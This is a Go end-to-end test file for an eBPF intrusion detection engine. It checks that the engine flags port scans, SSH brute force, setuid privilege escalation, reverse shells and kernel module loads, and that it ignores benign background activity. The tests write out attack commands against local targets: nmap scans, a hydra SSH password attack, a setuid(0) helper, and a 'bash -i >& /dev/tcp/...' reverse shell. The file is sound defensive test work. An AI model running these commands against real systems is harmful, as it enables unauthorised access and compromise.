package detect

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/owlbpf/owl/internal/e2e"
	"github.com/owlbpf/owl/internal/tool"
	"github.com/owlbpf/owl/internal/tools"
	"github.com/owlbpf/owl/internal/tools/execsnoop"
)

func TestMain(m *testing.M) { e2e.Main(m, nil) }

// live is an engine over the real tools, its findings on a channel-like
// list the test reads.
type live struct {
	eng    *Engine
	mu     sync.Mutex
	got    []Finding
	cancel context.CancelFunc
	done   chan struct{}
}

// startLive starts the tools of cfg's rules and an engine over them; the
// tools are attached when it returns.
func startLive(t *testing.T, cfg Config) *live {
	t.Helper()
	e2e.Require(t)
	if err := cfg.Check(); err != nil {
		t.Fatal(err)
	}
	l := &live{done: make(chan struct{})}
	l.eng = New(cfg, Options{Emit: func(f Finding) {
		l.mu.Lock()
		l.got = append(l.got, f)
		l.mu.Unlock()
		t.Logf("finding: %s", f.Text())
	}})
	opts := tool.DefaultOptions()
	opts.Runtime = e2e.Options().Runtime
	started := Start(&cfg, func(n string) tool.Tool { return tools.Find(n) }, opts)
	for _, s := range started {
		switch {
		case s.Err == nil:
		case s.Name == "modsnoop" || e2e.InGuest():
			// No modules here; the qemu guests have no libpam, and
			// their test (module loads) needs only modsnoop.
			t.Logf("%s not started: %v", s.Name, s.Err)
		default:
			t.Fatalf("%s: %v", s.Name, s.Err)
		}
	}
	ctx, cancel := context.WithCancel(context.Background())
	l.cancel = cancel
	go func() {
		defer close(l.done)
		if _, err := Run(ctx, l.eng, started); err != nil {
			t.Errorf("run: %v", err)
		}
	}()
	t.Cleanup(l.stop)
	return l
}

func (l *live) stop() {
	l.cancel()
	<-l.done
}

// findings returns the states of rule matching match, and their distinct
// finding ids.
func (l *live) findings(rule Rule, match func(Finding) bool) ([]Finding, map[string]bool) {
	l.mu.Lock()
	defer l.mu.Unlock()
	var fs []Finding
	uids := map[string]bool{}
	for _, f := range l.got {
		if f.Rule == rule && match(f) {
			fs = append(fs, f)
			uids[f.UID] = true
		}
	}
	return fs, uids
}

// wait waits for a state of rule matching match.
func (l *live) wait(t *testing.T, rule Rule, timeout time.Duration, what string, match func(Finding) bool) Finding {
	t.Helper()
	deadline := time.Now().Add(timeout)
	for time.Now().Before(deadline) {
		if fs, _ := l.findings(rule, match); len(fs) > 0 {
			return fs[len(fs)-1]
		}
		time.Sleep(100 * time.Millisecond)
	}
	t.Fatalf("no %s finding within %s: %s", rule.ID, timeout, what)
	return Finding{}
}

func run(t *testing.T, name string, args ...string) string {
	t.Helper()
	out, err := exec.Command(name, args...).CombinedOutput()
	if err != nil {
		t.Fatalf("%s %s: %v\n%s", name, strings.Join(args, " "), err, out)
	}
	return string(out)
}

// netns is an "attacker" network namespace joined to this one by a veth
// pair: Host is this side's address, Peer the attacker's (10.213.N.0/24).
type netns struct {
	Name       string
	Host, Peer netip.Addr
}

func newNetns(t *testing.T) *netns {
	t.Helper()
	e2e.Need(t, "/usr/sbin/ip")
	n := os.Getpid()%200 + 20
	ns := &netns{Name: fmt.Sprintf("owldet%d", os.Getpid()),
		Host: netip.AddrFrom4([4]byte{10, 213, byte(n), 1}), Peer: netip.AddrFrom4([4]byte{10, 213, byte(n), 2})}
	vh, va := fmt.Sprintf("odh%d", os.Getpid()), fmt.Sprintf("oda%d", os.Getpid())
	run(t, "ip", "netns", "add", ns.Name)
	t.Cleanup(func() { exec.Command("ip", "link", "del", vh).Run(); exec.Command("ip", "netns", "del", ns.Name).Run() })
	run(t, "ip", "link", "add", vh, "type", "veth", "peer", "name", va)
	run(t, "ip", "link", "set", va, "netns", ns.Name)
	run(t, "ip", "addr", "add", ns.Host.String()+"/24", "dev", vh)
	run(t, "ip", "link", "set", vh, "up")
	run(t, "ip", "-n", ns.Name, "addr", "add", ns.Peer.String()+"/24", "dev", va)
	run(t, "ip", "-n", ns.Name, "link", "set", va, "up")
	run(t, "ip", "-n", ns.Name, "link", "set", "lo", "up")
	return ns
}

// in runs a command in the namespace.
func (ns *netns) in(name string, args ...string) *exec.Cmd {
	return exec.Command("ip", append([]string{"netns", "exec", ns.Name, name}, args...)...)
}

// benignUID runs the benign background: a uid of no user.
const benignUID = 4242

// benignSource is the address the benign web client connects from.
var benignSource = netip.MustParseAddr("127.0.0.2")

// startBenign runs a benign background until the test ends: a web server
// answering 1000 requests (from benignSource, one every pace at most),
// dpkg -l, and cron-like execs of shells and tools every 200 ms, as
// benignUID. checkBenign then finds no finding that names them. The
// returned channel is closed after the 1000th request.
func startBenign(t *testing.T, pace time.Duration) <-chan struct{} {
	t.Helper()
	served := make(chan struct{})
	ctx, cancel := context.WithCancel(context.Background())
	var wg sync.WaitGroup
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, "ok\n") })}
	go srv.Serve(ln)
	asBenign := func(name string, args ...string) error {
		cmd := exec.CommandContext(ctx, name, args...)
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: benignUID, Gid: benignUID}}
		cmd.Dir = "/"
		return cmd.Run()
	}
	wg.Add(2)
	go func() {
		defer wg.Done()
		dialer := &net.Dialer{LocalAddr: &net.TCPAddr{IP: benignSource.AsSlice()}}
		client := &http.Client{Transport: &http.Transport{DialContext: dialer.DialContext, DisableKeepAlives: true}}
		for range 1000 {
			if ctx.Err() != nil {
				return
			}
			resp, err := client.Get("http://" + ln.Addr().String() + "/")
			if err != nil {
				t.Errorf("benign request: %v", err)
				return
			}
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			time.Sleep(pace)
		}
		close(served)
	}()
	go func() {
		defer wg.Done()
		asBenign("dpkg", "-l")
		for ctx.Err() == nil {
			asBenign("/bin/sh", "-c", "date >/dev/null; ls / >/dev/null; id -u >/dev/null")
			asBenign("/usr/bin/bash", "-c", "true")
			time.Sleep(200 * time.Millisecond)
		}
	}()
	t.Cleanup(func() {
		cancel()
		wg.Wait()
		srv.Close()
	})
	return served
}

// checkBenign fails on any finding that names the benign background.
func (l *live) checkBenign(t *testing.T) {
	t.Helper()
	l.mu.Lock()
	defer l.mu.Unlock()
	for _, f := range l.got {
		if (f.Actor != nil && f.Actor.UID == benignUID) || f.Remote.Addr() == benignSource {
			t.Errorf("finding from the benign background: %s", f.Text())
		}
	}
}

// The benign background alone for 2 minutes (its 1000 requests paced
// over them), every rule running with its default thresholds: no finding
// names it. The attack tests run it beside each attack too.
func TestBenignBackgroundE2E(t *testing.T) {
	e2e.Need(t, "/usr/bin/dpkg")
	l := startLive(t, Defaults())
	start := time.Now()
	served := startBenign(t, 2*time.Minute/1000)
	select {
	case <-served:
	case <-time.After(5 * time.Minute):
		t.Fatal("the benign web client did not make its 1000 requests within 5 minutes")
	}
	if took := time.Since(start); took < 2*time.Minute {
		t.Fatalf("the background ran %s, want 2 minutes", took)
	}
	// Findings are judged at the engine's ticks, every second (privilege
	// escalation at the tick after its exec).
	time.Sleep(3 * time.Second)
	l.checkBenign(t)
}

func fastConfig() Config {
	cfg := Defaults()
	cfg.UpdateEvery = time.Second
	cfg.PortScan.CloseAfter = 3 * time.Second
	// hydra against sshd goes at about one attempt a second, with pauses.
	cfg.BruteForce.CloseAfter = 20 * time.Second
	return cfg
}

// nmap -sS and -sT of 100 ports from the attacker's namespace: one
// finding each, naming the attacker and ≥ 100 ports; 100 connects to one
// open port: none.
func TestPortScanE2E(t *testing.T) {
	e2e.Need(t, "/usr/bin/nmap")
	ns := newNetns(t)
	l := startLive(t, fastConfig())
	startBenign(t, 5*time.Millisecond)
	// Some open ports among the 100 (accepted by -sT, SYN-ACKed by -sS).
	var open []int
	for range 3 {
		ln, err := net.Listen("tcp", ns.Host.String()+":0")
		if err != nil {
			t.Fatal(err)
		}
		defer ln.Close()
		go func() {
			for {
				c, err := ln.Accept()
				if err != nil {
					return
				}
				c.Close()
			}
		}()
		open = append(open, ln.Addr().(*net.TCPAddr).Port)
	}
	// 97 closed ports and the 3 open ones.
	ports := []string{}
	for _, p := range open {
		ports = append(ports, fmt.Sprint(p))
	}
	for p := 23000; len(ports) < 100; p++ {
		if p != open[0] && p != open[1] && p != open[2] {
			ports = append(ports, fmt.Sprint(p))
		}
	}
	fromPeer := func(f Finding) bool { return f.Remote.Addr() == ns.Peer }
	// -sS: 100 closed ports (a half-open probe of an open port is neither
	// reset nor accepted); -sT: 97 closed and the 3 open ones.
	var closedPorts []string
	for p := 24000; len(closedPorts) < 100; p++ {
		closedPorts = append(closedPorts, fmt.Sprint(p))
	}
	for i, scan := range []struct{ flag, ports string }{{"-sS", strings.Join(closedPorts, ",")}, {"-sT", strings.Join(ports, ",")}} {
		_, seen := l.findings(RulePortScan, fromPeer)
		out, err := ns.in("nmap", "-n", "-Pn", scan.flag, "--max-retries", "1", "-p", scan.ports, ns.Host.String()).CombinedOutput()
		if err != nil {
			t.Fatalf("nmap %s: %v\n%s", scan.flag, err, out)
		}
		closed := l.wait(t, RulePortScan, 20*time.Second, "the close of the nmap "+scan.flag+" scan", func(f Finding) bool {
			return fromPeer(f) && f.Activity == Close && !seen[f.UID]
		})
		if closed.PortCount < 100 {
			t.Errorf("nmap %s: %d ports, want ≥ 100: %s", scan.flag, closed.PortCount, closed.Text())
		}
		if _, uids := l.findings(RulePortScan, fromPeer); len(uids) != i+1 {
			t.Errorf("after nmap %s: %d findings from %s, want %d", scan.flag, len(uids), ns.Peer, i+1)
		}
	}
	// 100 connects to one open port: no finding.
	before, _ := l.findings(RulePortScan, fromPeer)
	script := fmt.Sprintf("for i in $(seq 100); do exec 3<>/dev/tcp/%s/%d; exec 3<&-; done", ns.Host, open[0])
	if out, err := ns.in("bash", "-c", script).CombinedOutput(); err != nil {
		t.Fatalf("connects: %v\n%s", err, out)
	}
	time.Sleep(5 * time.Second)
	if after, _ := l.findings(RulePortScan, fromPeer); len(after) != len(before) {
		for _, f := range after[len(before):] {
			t.Errorf("100 connects to one port made a finding: %s", f.Text())
		}
	}
	l.checkBenign(t)
}

// A setuid-root helper run by an unprivileged user that calls setuid(0):
// a finding; sudo and su used normally: none.
func TestPrivEscE2E(t *testing.T) {
	e2e.Need(t, "/usr/bin/gcc")
	e2e.Need(t, "/usr/bin/sudo")
	e2e.Need(t, "/usr/bin/su")
	e2e.Need(t, "/usr/bin/script")
	dir, err := os.MkdirTemp("", "owldetect")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	os.Chmod(dir, 0o755)
	src := filepath.Join(dir, "helper.c")
	os.WriteFile(src, []byte("#include <unistd.h>\nint main(void) { if (setuid(0)) return 1; usleep(300000); return getuid(); }\n"), 0o644)
	helper := filepath.Join(dir, "helper")
	run(t, "gcc", "-o", helper, src)
	if err := os.Chmod(helper, os.ModeSetuid|0o755); err != nil {
		t.Fatal(err)
	}
	user, pass := testUser(t)
	sudoers := fmt.Sprintf("/etc/sudoers.d/owldetect%d", os.Getpid())
	if err := os.WriteFile(sudoers, []byte(user+" ALL=(root) NOPASSWD: /usr/bin/true\n"), 0o440); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.Remove(sudoers) })
	uid := lookupUID(t, user)

	l := startLive(t, fastConfig())
	startBenign(t, 5*time.Millisecond)
	asUser := func(name string, args ...string) *exec.Cmd {
		cmd := exec.Command(name, args...)
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uid, Gid: uid}}
		cmd.Dir = "/"
		cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=/"}
		return cmd
	}
	// sudo and su, as the user would run them.
	if out, err := asUser("sudo", "-n", "/usr/bin/true").CombinedOutput(); err != nil {
		t.Fatalf("sudo: %v\n%s", err, out)
	}
	su := asUser("script", "-qec", "su -c true "+user, "/dev/null")
	// The password once su waits for it: it flushes what was typed before.
	pr, pw := io.Pipe()
	go func() {
		time.Sleep(time.Second)
		io.WriteString(pw, pass+"\n")
		time.Sleep(2 * time.Second)
		pw.Close()
	}()
	su.Stdin = pr
	if out, err := su.CombinedOutput(); err != nil {
		t.Fatalf("su: %v\n%s", err, out)
	}
	cmd := asUser(helper)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	pid := uint32(cmd.Process.Pid)
	if err := cmd.Wait(); err != nil {
		t.Fatalf("helper: %v (want it to become root and exit 0)", err)
	}
	f := l.wait(t, RulePrivEsc, 10*time.Second, "the helper's setuid(0)", func(f Finding) bool { return f.Actor.PID == pid })
	if f.Actor.Exe != helper || f.Actor.UID != uid {
		t.Errorf("actor %+v, want %s of uid %d", f.Actor, helper, uid)
	}
	time.Sleep(2 * time.Second)
	fs, _ := l.findings(RulePrivEsc, func(f Finding) bool { return f.Actor.UID == uid && f.Actor.PID != pid })
	for _, f := range fs {
		t.Errorf("finding for sudo or su: %s", f.Text())
	}
	l.checkBenign(t)
}

// testUser makes a user with a known password, removed at the end.
func testUser(t *testing.T) (name, pass string) {
	t.Helper()
	e2e.Need(t, "/usr/sbin/useradd")
	e2e.Need(t, "/usr/sbin/chpasswd")
	name, pass = fmt.Sprintf("owld%d", os.Getpid()), "Owl-test-pass-7"
	exec.Command("userdel", "-r", name).Run()
	run(t, "useradd", "-m", "-s", "/bin/sh", name)
	t.Cleanup(func() { exec.Command("userdel", "-r", "-f", name).Run() })
	cmd := exec.Command("chpasswd")
	cmd.Stdin = strings.NewReader(name + ":" + pass + "\n")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("chpasswd: %v\n%s", err, out)
	}
	return name, pass
}

func lookupUID(t *testing.T, name string) uint32 {
	out := strings.TrimSpace(run(t, "id", "-u", name))
	var uid uint32
	fmt.Sscan(out, &uid)
	return uid
}

// hydra against a real sshd with 80 wrong passwords, the right one last:
// a brute-force finding and a success-after-failures finding naming the
// attacker and the user; 5 normal logins before: none.
func TestBruteForceE2E(t *testing.T) {
	e2e.Need(t, "/usr/sbin/sshd")
	e2e.Need(t, "/usr/bin/hydra")
	e2e.Need(t, "/usr/bin/sshpass")
	e2e.Need(t, "/usr/bin/ssh-keygen")
	ns := newNetns(t)
	user, pass := testUser(t)
	dir := t.TempDir()
	run(t, "ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", filepath.Join(dir, "hostkey"))
	os.MkdirAll("/run/sshd", 0o755)
	port := 2200 + os.Getpid()%1000
	conf := filepath.Join(dir, "sshd_config")
	os.WriteFile(conf, fmt.Appendf(nil, `ListenAddress %s:%d
HostKey %s/hostkey
PidFile %s/sshd.pid
UsePAM yes
PasswordAuthentication yes
KbdInteractiveAuthentication no
PubkeyAuthentication no
PermitRootLogin no
AllowUsers %s
UseDNS no
MaxAuthTries 100
MaxStartups 100
StrictModes no
`, ns.Host, port, dir, dir, user), 0o600)
	sshd := exec.Command("/usr/sbin/sshd", "-D", "-e", "-f", conf)
	var log strings.Builder
	sshd.Stderr = &log
	if err := sshd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		sshd.Process.Kill()
		sshd.Wait()
		if t.Failed() {
			t.Logf("sshd: %s", log.String())
		}
	})
	for i := 0; ; i++ {
		c, err := net.Dial("tcp", netip.AddrPortFrom(ns.Host, uint16(port)).String())
		if err == nil {
			c.Close()
			break
		}
		if i > 50 {
			t.Fatalf("sshd not listening: %v\n%s", err, log.String())
		}
		time.Sleep(100 * time.Millisecond)
	}
	cfg := fastConfig()
	cfg.BruteForce.Services = map[string]int{"sshd": 20}
	l := startLive(t, cfg)
	startBenign(t, 5*time.Millisecond)
	fromPeer := func(f Finding) bool { return f.Remote.Addr() == ns.Peer }

	for range 5 {
		out, err := ns.in("sshpass", "-p", pass, "ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
			"-o", "PubkeyAuthentication=no", "-p", fmt.Sprint(port), user+"@"+ns.Host.String(), "true").CombinedOutput()
		if err != nil {
			t.Fatalf("ssh login: %v\n%s", err, out)
		}
	}
	var words strings.Builder
	for i := range 80 {
		fmt.Fprintf(&words, "wrong-%d\n", i)
	}
	words.WriteString(pass + "\n")
	list := filepath.Join(dir, "words")
	os.WriteFile(list, []byte(words.String()), 0o644)
	time.Sleep(time.Second)
	if fs, _ := l.findings(RuleBruteForce, fromPeer); len(fs) > 0 {
		t.Fatalf("5 normal logins made findings: %v", fs)
	}
	out, err := ns.in("hydra", "-I", "-f", "-t", "4", "-l", user, "-P", list, "-s", fmt.Sprint(port), ns.Host.String(), "ssh").CombinedOutput()
	t.Logf("hydra: %v\n%s", err, out)
	if !strings.Contains(string(out), "password: "+pass) {
		t.Fatalf("hydra did not find the password")
	}
	bf := l.wait(t, RuleBruteForce, 20*time.Second, "hydra's failures", fromPeer)
	if bf.User != user || bf.Service != "sshd" {
		t.Errorf("brute force: %s", bf.Text())
	}
	sa := l.wait(t, RuleSuccessAfter, 20*time.Second, "hydra's success", fromPeer)
	if sa.User != user || sa.Count < 25 {
		t.Errorf("success after failures: %s", sa.Text())
	}
	l.checkBenign(t)
}

// bash -i >& /dev/tcp/ADDR/PORT 0>&1 to a listener: a finding with the
// listener's address; a script's HTTP request over /dev/tcp: none.
func TestReverseShellE2E(t *testing.T) {
	if _, ok := reflect.TypeOf(execsnoop.Event{}).FieldByName("Stdio"); !ok {
		t.Skip("execsnoop does not report the sockets of fds 0-2 yet (branch execsock)")
	}
	e2e.Need(t, "/usr/bin/bash")
	l := startLive(t, fastConfig())
	startBenign(t, 5*time.Millisecond)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	addr := netip.MustParseAddrPort(ln.Addr().String())
	go func() {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		defer c.Close()
		io.WriteString(c, "exit\n")
		io.Copy(io.Discard, c)
	}()
	shell := exec.Command("bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/%s/%d 0>&1", addr.Addr(), addr.Port()))
	if out, err := shell.CombinedOutput(); err != nil {
		t.Logf("reverse shell: %v\n%s", err, out)
	}
	f := l.wait(t, RuleReverseShell, 10*time.Second, "bash -i over /dev/tcp", func(f Finding) bool { return f.Remote == addr })
	t.Logf("%s", f.Text())

	web := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, "hello\n") })}
	wln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go web.Serve(wln)
	defer web.Close()
	waddr := netip.MustParseAddrPort(wln.Addr().String())
	script := filepath.Join(t.TempDir(), "get.sh")
	os.WriteFile(script, fmt.Appendf(nil, "exec 3<>/dev/tcp/%s/%d\nprintf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3\ncat <&3\n", waddr.Addr(), waddr.Port()), 0o755)
	if out, err := exec.Command("bash", script).CombinedOutput(); err != nil || !strings.Contains(string(out), "hello") {
		t.Fatalf("script: %v\n%s", err, out)
	}
	time.Sleep(2 * time.Second)
	if fs, _ := l.findings(RuleReverseShell, func(f Finding) bool { return f.Remote.Port() == waddr.Port() }); len(fs) > 0 {
		t.Errorf("the HTTP script made findings: %v", fs)
	}
	l.checkBenign(t)
}

// A module load (in the qemu guests: this host has no modules): a
// finding; an allowlisted one: none.
func TestModuleLoadE2E(t *testing.T) {
	e2e.Require(t)
	if _, err := os.Stat("/proc/modules"); err != nil {
		t.Skip("this kernel has no modules (CONFIG_MODULES unset): the qemu guests run this test")
	}
	var uname unix.Utsname
	unix.Uname(&uname)
	dir := filepath.Join("/lib/modules", unix.ByteSliceToString(uname.Release[:]), "kernel/fs/nls")
	var files []string
	for _, m := range []string{"nls_iso8859-1", "nls_cp437", "nls_ascii"} {
		f := filepath.Join(dir, m+".ko")
		if _, err := os.Stat(f); err == nil && !loaded(strings.ReplaceAll(m, "-", "_")) {
			files = append(files, f)
		}
	}
	if len(files) < 2 {
		t.Skipf("need two unloaded uncompressed nls modules in %s (the guests have them)", dir)
	}
	name := func(f string) string {
		return strings.ReplaceAll(strings.TrimSuffix(filepath.Base(f), ".ko"), "-", "_")
	}
	cfg := fastConfig()
	cfg.ModuleLoad.Allow = []string{name(files[1])}
	l := startLive(t, cfg)
	startBenign(t, 5*time.Millisecond)
	for _, f := range files[:2] {
		fd, err := os.Open(f)
		if err != nil {
			t.Fatal(err)
		}
		err = unix.FinitModule(int(fd.Fd()), "", 0)
		fd.Close()
		if err != nil {
			t.Fatalf("finit_module %s: %v", f, err)
		}
		t.Cleanup(func() { unix.DeleteModule(name(f), unix.O_NONBLOCK) })
	}
	l.wait(t, RuleModuleLoad, 10*time.Second, "the load of "+name(files[0]), func(f Finding) bool { return f.Module == name(files[0]) })
	time.Sleep(2 * time.Second)
	if fs, _ := l.findings(RuleModuleLoad, func(f Finding) bool { return f.Module == name(files[1]) }); len(fs) > 0 {
		t.Errorf("allowlisted module made a finding: %v", fs)
	}
	l.checkBenign(t)
}

func loaded(module string) bool {
	b, _ := os.ReadFile("/proc/modules")
	return strings.Contains(string(b), module+" ")
}
